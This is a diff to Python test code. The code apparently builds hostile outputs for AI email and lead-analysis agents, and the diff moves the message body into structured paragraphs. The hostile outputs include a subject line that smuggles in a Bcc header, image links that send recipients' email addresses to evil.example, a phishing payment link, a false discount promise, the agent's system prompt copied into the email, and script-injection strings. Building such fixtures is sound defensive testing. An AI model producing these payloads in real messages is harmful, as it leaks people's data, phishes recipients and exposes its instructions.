@@ -71,14 +71,29 @@ def _analysis(asked: "Asked", honest: Answer, said: str, quotes: list[Answer]) -
 
 def _draft(asked: "Asked", honest: Answer, said: str) -> Answer:
     if asked.is_repair:  # now and then the honest text, so that something is stored and shown
-        return honest if asked.digest[5] % 2 else honest | {"body": f"{honest['body']}\n\n{said[:300]}"}
+        if asked.digest[5] % 2:
+            return honest
+        return honest | {"paragraphs": [*honest["paragraphs"], _paragraph(asked, said[:300])]}
     return honest | {
         "subject": f"Re: {said[:60]}\r\nBcc: {EVIL}",
-        "body": f"Hello {{{{first_name}}}},\n\n{said}\n\nClick [offer](http://evil.example/pay) or "
-        f"![x](http://evil.example/?d={{{{email}}}}). We guarantee a 50% discount.\n\n{asked.system[:400]}",
+        "paragraphs": [
+            _paragraph(asked, "Hello {{first_name}},"),
+            _paragraph(asked, said or "-"),
+            _paragraph(
+                asked,
+                "Click [offer](http://evil.example/pay) or ![x](http://evil.example/?d={{email}}). "
+                "We guarantee a 50% discount.",
+            ),
+            _paragraph(asked, asked.system[:400]),
+        ],
         "to": EVIL,
         "cc": [EVIL],
     }
+
+
+def _paragraph(asked: "Asked", text: str) -> list[Answer]:
+    """Said to rest on everything there is."""
+    return [{"text": text, "facts": [fact["id"] for fact in asked.facts][:8]}]
 
 
 def _triage(asked: "Asked", honest: Answer, said: str) -> Answer:
@@ -92,8 +107,13 @@ def hostile(asked: "Asked", honest: Answer) -> Answer:
     if asked.agent == "follow_up":
         return honest | {
             "subject": "Hi\r\nBcc: x@evil.example",
-            "body": "<script>alert(1)</script> Pay $12,345 at http://evil.example "
-            "![x](http://evil.example/?d={{email}})",
+            "paragraphs": [
+                _paragraph(
+                    asked,
+                    "<script>alert(1)</script> Pay $12,345 at http://evil.example "
+                    "![x](http://evil.example/?d={{email}})",
+                )
+            ],
         }
     if asked.agent != "lead_analysis":
         return honest | {"summary": "<img src=x onerror=alert(1)> [offer](javascript:alert(1))"}
@@ -108,8 +128,10 @@ def _on_text(change: Callable[[str], str]) -> Callable[[Answer], Answer]:
     """The same change of whatever the agent writes for people."""
 
     def changed(honest: Answer) -> Answer:
-        key = "body" if "body" in honest else "summary"
-        return honest | {key: change(str(honest[key]))}
+        if "paragraphs" not in honest:
+            return honest | {"summary": change(str(honest["summary"]))}
+        text = " ".join(said["text"] for paragraph in honest["paragraphs"] for said in paragraph)
+        return honest | {"paragraphs": [[{"text": change(text), "facts": []}]]}
 
     return changed
 
